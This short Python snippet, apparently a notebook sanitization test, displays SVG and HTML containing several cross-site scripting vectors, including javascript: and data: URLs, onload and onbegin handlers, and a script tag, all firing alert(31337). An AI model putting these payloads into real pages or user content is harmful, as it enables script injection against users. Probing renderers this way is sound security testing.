# A page within a picture, and a picture within a link.
from IPython.display import SVG, HTML, display
inner = '<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:alert(31337)"/></foreignObject><use href="data:image/svg+xml,&lt;svg onload=alert(31337)&gt;"/><animate onbegin="alert(31337)"/></svg>'
display(SVG(inner))
display(HTML(inner + '<a href="data:text/html,<script>alert(31337)</script>">x</a>'))
